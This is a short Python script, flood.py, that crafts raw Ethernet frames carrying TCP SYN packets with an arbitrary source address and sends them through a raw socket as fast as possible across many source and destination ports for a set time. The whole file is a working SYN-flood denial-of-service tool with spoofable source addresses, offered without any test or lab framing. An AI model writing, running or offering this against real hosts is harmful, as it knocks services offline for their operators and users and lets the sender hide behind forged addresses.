"""`python flood.py DEVICE SOURCE DESTINATION PORT PORTS SECONDS`: SYNs from ever new ports, as fast as can be.

The MAC address of the gateway comes by standard input. Prints "flooding", then how many were sent.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys
import time


def _sum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    folded: int = ~(total + (total >> 16)) & 0xFFFF
    return folded


def frame(own: bytes, gateway: bytes, source: str, destination: str, port: int, from_port: int) -> bytes:
    """An Ethernet frame with an IPv4 SYN."""
    addresses = ipaddress.IPv4Address(source).packed + ipaddress.IPv4Address(destination).packed
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + addresses
    ip = ip[:10] + struct.pack("!H", _sum(ip)) + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", from_port, port, 1, 0, 0x50, 2, 65535, 0, 0)
    check = _sum(addresses + struct.pack("!HH", 6, 20) + tcp)
    return gateway + own + b"\x08\x00" + ip + tcp[:16] + struct.pack("!H", check) + tcp[18:]


def main() -> None:
    """Send until the time is over."""
    device, source, destination, port, ports, seconds = sys.argv[1:]
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((device, 0))
    own: bytes = raw.getsockname()[4]
    gateway = bytes.fromhex(sys.stdin.readline().strip().replace(":", ""))
    frames = [
        frame(own, gateway, source, destination, to_port, from_port)
        for to_port in range(int(port), int(port) + int(ports))
        for from_port in range(1024, 65536)
    ]
    print("flooding", flush=True)
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        start = sent % len(frames)
        for one in frames[start : start + 2000]:
            raw.send(one)
            sent += 1
    print(sent)


if __name__ == "__main__":
    main()
